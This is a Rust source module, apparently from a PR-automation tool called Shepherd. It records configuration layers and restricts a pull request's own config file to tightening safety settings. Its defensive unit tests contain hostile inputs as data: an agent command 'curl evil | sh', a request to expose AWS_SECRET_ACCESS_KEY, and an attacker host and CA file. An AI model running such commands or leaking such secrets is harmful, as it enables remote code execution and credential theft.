//! The two things a run keeps of its configuration beyond the result: the
//! layers it was started with ([`LayerRecord`], so that a resumed run uses
//! exactly those), and the pull request head's own config file
//! ([`HeadConfig`]), which is untrusted.
//!
//! # The PR head's file (SPEC section 10)
//!
//! Anyone who can push to the PR's branch wrote the `shepherd.toml` on its
//! head. It may only *tighten* the settings that guard safety, never loosen
//! them:
//!
//! | key | what the head's file can do |
//! |---|---|
//! | `paths.protected` | add patterns (the union is kept) |
//! | `trust.collaborators`, `resolve.human_threads`, `approve.resolve_wontfix`, `approve.reply_needs_human`, `loop.succeed_when_handed_off` | turn off |
//! | `trust.bots`, `trust.users` | remove accounts (the intersection is kept) |
//! | `approve.mode` | ask for a stricter mode (`auto` < `label` < `prompt`) |
//! | `review.enabled` | turn on |
//! | `loop.max_rounds`, `ci.repair_attempts` | lower |
//! | `ci.repair_pre_existing` | turn off |
//! | `[agent]`, `[verify]`, `[forge]` (hosts, `ca_file`), `[reviewers]` (whom to wait for, what to post to them) | nothing: ignored, with a note |
//!
//! The tuning sections (`[cluster]`, `[ci]` but its repair keys, `loop.on_exhaust`) are applied
//! as the lowest layer, so any file of the user's side overrides them. What
//! was ignored is returned as notes, for the run's progress and artifacts.

use super::error::ConfigError;
use super::keys::check_table;
use super::layers::{layer_tables, merge, ConfigLayer, LayerContent, Origins, Source};
use super::sections::Config;
use serde::{Deserialize, Serialize};
use toml::{Table, Value};

/// Where a recorded layer came from; [`Source`] in a serializable form.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", content = "path", rename_all = "kebab-case")]
pub enum SourceRecord {
    /// A repository's config file (the user's checkout, or the base branch).
    Repo(String),
    /// The user's config file.
    User(String),
    /// `SHEPHERD_*` variables.
    Env,
    /// Command-line flags.
    Flags,
    /// The PR head's config file.
    PrHead(String),
}

/// One configuration layer as a run directory keeps it: its source and its
/// settings as TOML (environment variables and flags are written as the keys
/// they set).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LayerRecord {
    /// Where it came from.
    pub source: SourceRecord,
    /// What it sets.
    pub toml: String,
}

impl LayerRecord {
    /// The record of `layer`. Fails when the layer itself is invalid (an
    /// environment variable with a bad value): such a layer never starts a run.
    pub fn of(layer: &ConfigLayer) -> Result<LayerRecord, ConfigError> {
        let source = match &layer.source {
            Source::Repo(p) => SourceRecord::Repo(p.clone()),
            Source::User(p) => SourceRecord::User(p.clone()),
            Source::Env => SourceRecord::Env,
            Source::Flags => SourceRecord::Flags,
            Source::PrHead(p) => SourceRecord::PrHead(p.clone()),
        };
        let toml = match &layer.content {
            LayerContent::Toml(text) => text.clone(),
            LayerContent::Env(_) | LayerContent::Flags(_) => {
                let mut merged = Table::new();
                for (origin, table) in layer_tables(layer)? {
                    merge(
                        &mut merged,
                        table,
                        &mut Vec::new(),
                        &origin,
                        &mut Origins::new(),
                    );
                }
                to_toml(&merged)
            }
        };
        Ok(LayerRecord { source, toml })
    }

    /// The layer again.
    pub fn to_layer(&self) -> ConfigLayer {
        let source = match &self.source {
            SourceRecord::Repo(p) => Source::Repo(p.clone()),
            SourceRecord::User(p) => Source::User(p.clone()),
            SourceRecord::Env => Source::Env,
            SourceRecord::Flags => Source::Flags,
            SourceRecord::PrHead(p) => Source::PrHead(p.clone()),
        };
        ConfigLayer {
            source,
            content: LayerContent::Toml(self.toml.clone()),
        }
    }
}

fn to_toml(table: &Table) -> String {
    // A table of strings, integers, booleans, arrays and tables always
    // serializes; the fallback keeps the function total.
    toml::to_string(table).unwrap_or_default()
}

/// The tuning keys a PR head's file may set as they are.
/// `ci.repair_*` decide whether Shepherd writes code for a red check: they
/// are safety settings, tightened in [`HeadConfig::tighten`].
const TUNING: &[&[&str]] = &[
    &["cluster"],
    &["ci", "timeout_secs"],
    &["ci", "poll_interval_secs"],
    &["ci", "appear_timeout_secs"],
    &["ci", "rerun_failed"],
    &["loop", "on_exhaust"],
];

/// The sections a PR head's file cannot touch at all.
const IGNORED: &[&str] = &["agent", "verify", "forge", "reviewers"];

/// A PR head's config file, checked on its own (unknown keys and bad values
/// are errors naming the file as the head's).
#[derive(Debug, Clone, PartialEq)]
pub struct HeadConfig {
    path: String,
    table: Table,
    config: Config,
    set: Origins,
}

impl HeadConfig {
    /// Parse and check the head's file at `path` (repository-relative).
    pub fn parse(path: impl Into<String>, text: &str) -> Result<HeadConfig, ConfigError> {
        let path = path.into();
        let layer = ConfigLayer {
            source: Source::PrHead(path.clone()),
            content: LayerContent::Toml(text.to_owned()),
        };
        let origin = layer.source.to_string();
        let table = super::layers::parse_table(text, &origin)?;
        check_table(&table, &mut Vec::new(), &origin)?;
        let (config, set) = Config::layered_with_origins(&[layer])?;
        Ok(HeadConfig {
            path,
            table,
            config,
            set,
        })
    }

    /// The file's path in the repository.
    pub fn path(&self) -> &str {
        &self.path
    }

    /// The tuning keys of the file, as a layer to put under every other.
    pub fn tuning_layer(&self) -> ConfigLayer {
        let mut kept = Table::new();
        for keys in TUNING {
            if let Some(value) = lookup(&self.table, keys) {
                insert(&mut kept, keys, value.clone());
            }
        }
        ConfigLayer {
            source: Source::PrHead(self.path.clone()),
            content: LayerContent::Toml(to_toml(&kept)),
        }
    }

    /// Apply the file's safety settings to `config` where they tighten it.
    /// Returns one note per setting the file asked for and did not get.
    pub fn tighten(&self, config: &mut Config) -> Vec<String> {
        let head = &self.config;
        let mut notes = Vec::new();
        let what = format!("{} on the pull request's head", self.path);
        let is_set = |key: &str| {
            self.set
                .keys()
                .any(|k| k == key || k.starts_with(&format!("{key}.")))
        };

        if is_set("paths.protected") {
            let dropped: Vec<&String> = config
                .paths
                .protected
                .iter()
                .filter(|p| !head.paths.protected.contains(p))
                .collect();
            if !dropped.is_empty() {
                notes.push(format!(
                    "{what} leaves out protected path(s) {}: they stay protected (a pull request \
                     can only add protected paths)",
                    quoted(&dropped)
                ));
            }
            for p in &head.paths.protected {
                if !config.paths.protected.contains(p) {
                    config.paths.protected.push(p.clone());
                }
            }
        }
        if is_set("trust.collaborators") && head.trust.collaborators && !config.trust.collaborators
        {
            notes.push(format!(
                "{what} asks to trust collaborators; ignored (a pull request can only narrow trust)"
            ));
        }
        if is_set("trust.collaborators") {
            config.trust.collaborators &= head.trust.collaborators;
        }
        for (key, head_list, list) in [
            ("trust.bots", &head.trust.bots, &mut config.trust.bots),
            ("trust.users", &head.trust.users, &mut config.trust.users),
        ] {
            if !is_set(key) {
                continue;
            }
            let added: Vec<&String> = head_list
                .iter()
                .filter(|l| !list.iter().any(|k| k.eq_ignore_ascii_case(l)))
                .collect();
            if !added.is_empty() {
                notes.push(format!(
                    "{what} asks to trust {} in `{key}`; ignored (a pull request can only narrow \
                     trust)",
                    quoted(&added)
                ));
            }
            list.retain(|l| head_list.iter().any(|k| k.eq_ignore_ascii_case(l)));
        }
        for (key, head_value, value, what_widens) in [
            (
                "resolve.human_threads",
                head.resolve.human_threads,
                &mut config.resolve.human_threads,
                "resolved",
            ),
            (
                "approve.resolve_wontfix",
                head.approve.resolve_wontfix,
                &mut config.approve.resolve_wontfix,
                "resolved",
            ),
            (
                "approve.reply_needs_human",
                head.approve.reply_needs_human,
                &mut config.approve.reply_needs_human,
                "posted",
            ),
            (
                "loop.succeed_when_handed_off",
                head.loop_.succeed_when_handed_off,
                &mut config.loop_.succeed_when_handed_off,
                "reported as success",
            ),
            (
                "ci.repair_pre_existing",
                head.ci.repair_pre_existing,
                &mut config.ci.repair_pre_existing,
                "repaired",
            ),
        ] {
            if !is_set(key) {
                continue;
            }
            if head_value && !*value {
                notes.push(format!(
                    "{what} sets `{key} = true`; ignored (a pull request cannot widen what is \
                     {what_widens})"
                ));
            }
            *value &= head_value;
        }
        if is_set("approve.mode") {
            if head.approve.mode.strictness() >= config.approve.mode.strictness() {
                config.approve.mode = head.approve.mode;
            } else {
                notes.push(format!(
                    "{what} sets `approve.mode = \"{}\"`; ignored (a pull request cannot loosen \
                     approval)",
                    head.approve.mode.as_str()
                ));
            }
        }
        if is_set("review.enabled") {
            config.review.enabled |= head.review.enabled;
        }
        // What a pull request can only lower.
        for (key, head_value, value) in [
            (
                "loop.max_rounds",
                head.loop_.max_rounds,
                &mut config.loop_.max_rounds,
            ),
            (
                "ci.repair_attempts",
                head.ci.repair_attempts,
                &mut config.ci.repair_attempts,
            ),
        ] {
            if !is_set(key) {
                continue;
            }
            if head_value > *value {
                notes.push(format!(
                    "{what} sets `{key} = {head_value}`; kept {value} (a pull request can only \
                     lower it)"
                ));
            }
            *value = (*value).min(head_value);
        }
        for section in IGNORED {
            let keys: Vec<&String> = self
                .set
                .keys()
                .filter(|k| k.split('.').next() == Some(section))
                .collect();
            if !keys.is_empty() {
                notes.push(format!(
                    "{what} sets {}; ignored ([{section}] comes only from the user's side: user \
                     config, environment, flags, the checkout's or the base branch's file)",
                    quoted(&keys)
                ));
            }
        }
        notes
    }
}

fn quoted(items: &[&String]) -> String {
    items
        .iter()
        .map(|s| format!("`{s}`"))
        .collect::<Vec<_>>()
        .join(", ")
}

fn lookup<'a>(table: &'a Table, keys: &[&str]) -> Option<&'a Value> {
    let (first, rest) = keys.split_first()?;
    let value = table.get(*first)?;
    if rest.is_empty() {
        Some(value)
    } else {
        lookup(value.as_table()?, rest)
    }
}

fn insert(table: &mut Table, keys: &[&str], value: Value) {
    match keys {
        [] => {}
        [last] => {
            table.insert((*last).to_owned(), value);
        }
        [first, rest @ ..] => {
            let slot = table
                .entry((*first).to_owned())
                .or_insert_with(|| Value::Table(Table::new()));
            if let Value::Table(t) = slot {
                insert(t, rest, value);
            }
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)] // a panic is how a test fails
mod tests {
    use super::*;
    use crate::config::layers::Overrides;
    use crate::config::names::{ApproveMode, CommandSpec, Provider};

    fn trusted() -> Config {
        Config::layered(&[ConfigLayer::user(
            "/home/u/.config/shepherd/config.toml",
            "[paths]\nprotected = [\".github/workflows/**\", \"secrets/**\"]\n\
             [resolve]\nhuman_threads = false\n[trust]\nbots = [\"coderabbitai\"]\n\
             [approve]\nmode = \"prompt\"\n[agent]\nprovider = \"claude\"\n",
        )])
        .unwrap()
    }

    #[test]
    fn a_head_file_can_only_raise_the_approval_mode() {
        // (trusted mode, head's mode, result)
        use ApproveMode::{Auto, Label, Prompt};
        for (base, head, after) in [
            (Auto, Label, Label),
            (Auto, Prompt, Prompt),
            (Label, Prompt, Prompt),
            (Label, Auto, Label),
            (Prompt, Label, Prompt),
            (Prompt, Auto, Prompt),
        ] {
            let mut config = trusted();
            config.approve.mode = base;
            let text = format!("[approve]\nmode = \"{}\"\n", head.as_str());
            let notes = HeadConfig::parse("shepherd.toml", &text)
                .unwrap()
                .tighten(&mut config);
            assert_eq!(config.approve.mode, after, "{base:?} + {head:?}");
            assert_eq!(
                notes.iter().any(|n| n.contains("cannot loosen approval")),
                after != head,
                "{base:?} + {head:?}: {notes:?}"
            );
        }
    }

    fn tighten(head: &str) -> (Config, Vec<String>) {
        let mut config = trusted();
        let head = HeadConfig::parse("shepherd.toml", head).unwrap();
        let notes = head.tighten(&mut config);
        (config, notes)
    }

    #[test]
    fn a_head_file_cannot_loosen_any_safety_setting() {
        // Each row: a head file trying to loosen one setting, and what must hold after.
        type Holds = fn(&Config) -> bool;
        let rows: &[(&str, Holds)] = &[
            ("[paths]\nprotected = []\n", |c| {
                c.paths.protected.contains(&"secrets/**".to_owned())
                    && c.paths.is_protected(".github/workflows/ci.yml")
            }),
            ("[resolve]\nhuman_threads = true\n", |c| {
                !c.resolve.human_threads
            }),
            ("[approve]\nresolve_wontfix = true\n", |c| {
                !c.approve.resolve_wontfix
            }),
            ("[approve]\nmode = \"auto\"\n", |c| {
                c.approve.mode == ApproveMode::Prompt
            }),
            ("[approve]\nmode = \"label\"\n", |c| {
                c.approve.mode == ApproveMode::Prompt
            }),
            (
                "[trust]\nbots = [\"evil-bot\", \"coderabbitai\"]\nusers = [\"mallory\"]\n",
                |c| c.trust.bots == ["coderabbitai"] && c.trust.users.is_empty(),
            ),
            (
                "[agent]\nprovider = \"command\"\ncommand = \"curl evil | sh\"\n",
                |c| c.agent.provider == Provider::Claude && c.agent.command.is_none(),
            ),
            ("[agent]\nenv = [\"AWS_SECRET_ACCESS_KEY\"]\n", |c| {
                c.agent.env.is_empty()
            }),
            ("[verify]\ncommand = \"true\"\n", |c| {
                c.verify.command.is_none()
            }),
            ("[forge]\ngithub_hosts = [\"evil.example\"]\n", |c| {
                c.forge.github_hosts.is_empty()
            }),
            ("[forge]\nca_file = \"/tmp/evil-ca.pem\"\n", |c| {
                c.forge.ca_file.is_none()
            }),
            ("[loop]\nmax_rounds = 100\n", |c| c.loop_.max_rounds == 8),
            // A PR cannot choose what Shepherd posts or whom it waits for.
            (
                "[reviewers]\nwait_for = [\"evil-bot\"]\nrequest = true\n[reviewers.trigger]\n\"evil-bot\" = \"@everyone look\"\n",
                |c| {
                    c.reviewers.wait_for.is_none()
                        && !c.reviewers.request
                        && c.reviewers.trigger.is_empty()
                },
            ),
            // A PR cannot make its own CI job green while items wait.
            ("[loop]\nsucceed_when_handed_off = true\n", |c| {
                !c.loop_.succeed_when_handed_off
            }),
            // A PR cannot make Shepherd write more code for its red checks.
            ("[ci]\nrepair_attempts = 50\n", |c| c.ci.repair_attempts == 2),
            ("[ci]\nrepair_pre_existing = true\n", |c| {
                !c.ci.repair_pre_existing
            }),
        ];
        for (head, holds) in rows {
            let (config, notes) = tighten(head);
            assert!(
                holds(&config),
                "{head} loosened the configuration: {config:?}"
            );
            assert!(!notes.is_empty(), "{head} was ignored without a note");
        }
    }

    #[test]
    fn a_head_file_can_tighten() {
        let (config, notes) = tighten(
            "[paths]\nprotected = [\"db/migrations/**\"]\n[trust]\ncollaborators = false\n\
             bots = []\n[loop]\nmax_rounds = 2\n[review]\nenabled = true\n\
             [ci]\nrepair_attempts = 1\n",
        );
        assert!(config.paths.is_protected("db/migrations/001.sql"));
        assert!(config.paths.is_protected("secrets/key"));
        assert!(!config.trust.collaborators);
        assert!(config.trust.bots.is_empty());
        assert_eq!(config.loop_.max_rounds, 2);
        assert_eq!(config.ci.repair_attempts, 1);
        // Leaving out the trusted patterns is noted, adding is not.
        assert_eq!(notes.len(), 1, "{notes:?}");
        assert!(notes[0].contains("secrets/**"), "{notes:?}");
    }

    #[test]
    fn tuning_keys_are_the_lowest_layer() {
        let head = HeadConfig::parse(
            "shepherd.toml",
            "[ci]\ntimeout_secs = 60\npoll_interval_secs = 2\nrepair_pre_existing = true\n\
             repair_attempts = 9\n[cluster]\nmin_volume = 3\n[paths]\nprotected = []\n",
        )
        .unwrap();
        let user = ConfigLayer::user("u", "[ci]\ntimeout_secs = 120\n");
        let config = Config::layered(&[head.tuning_layer(), user]).unwrap();
        assert_eq!(config.ci.timeout_secs, 120, "the user's side wins");
        assert_eq!(config.ci.poll_interval_secs, 2, "the head's tuning applies");
        assert_eq!(config.cluster.min_volume, 3);
        assert_eq!(
            config.paths.protected,
            vec![".github/workflows/**".to_owned()],
            "safety keys never come from the tuning layer"
        );
        assert!(!config.ci.repair_pre_existing, "nor do the CI repair keys");
        assert_eq!(config.ci.repair_attempts, 2);
    }

    #[test]
    fn an_invalid_head_file_is_an_error_naming_it_as_the_heads() {
        let err = HeadConfig::parse("shepherd.toml", "[loop]\nmax_round = 2\n").unwrap_err();
        assert!(
            err.to_string()
                .contains("shepherd.toml on the pull request's head"),
            "{err}"
        );
    }

    #[test]
    fn recorded_layers_give_the_same_configuration() {
        let env = ConfigLayer::env(|k| match k {
            "SHEPHERD_APPROVE" => Some("auto".to_owned()),
            "SHEPHERD_MAX_ROUNDS" => Some("3".to_owned()),
            _ => None,
        });
        let flags = ConfigLayer::flags(Overrides {
            resolve_wontfix: Some(true),
            verify_command: Some(CommandSpec::Argv(vec!["make".into(), "test".into()])),
            ..Overrides::default()
        });
        let layers = vec![
            ConfigLayer::repo("/src/shepherd.toml", "[resolve]\nhuman_threads = false\n"),
            ConfigLayer::user("/u/config.toml", "[paths]\nprotected = [\"x/**\"]\n"),
            env,
            flags,
        ];
        let records: Vec<LayerRecord> =
            layers.iter().map(|l| LayerRecord::of(l).unwrap()).collect();
        let json = serde_json::to_string(&records).unwrap();
        let back: Vec<LayerRecord> = serde_json::from_str(&json).unwrap();
        let again: Vec<ConfigLayer> = back.iter().map(LayerRecord::to_layer).collect();
        assert_eq!(
            Config::layered(&again).unwrap(),
            Config::layered(&layers).unwrap()
        );
    }
}
